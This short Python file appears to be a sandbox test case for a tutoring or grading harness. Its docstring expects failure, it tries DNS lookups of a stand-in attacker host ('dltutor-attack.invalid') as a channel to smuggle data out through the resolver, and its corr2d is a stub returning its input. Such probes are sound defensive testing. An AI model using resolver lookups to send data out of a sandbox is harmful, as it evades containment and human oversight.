"""expects: failed
Smuggles what it knows out through the resolver.
"""
import socket

for call in (lambda: socket.getaddrinfo("dltutor-attack.invalid", 80), lambda: socket.gethostbyname("localhost.")):
    try:
        print("resolved", call())
    except OSError:
        pass


def corr2d(X, K):
    return X
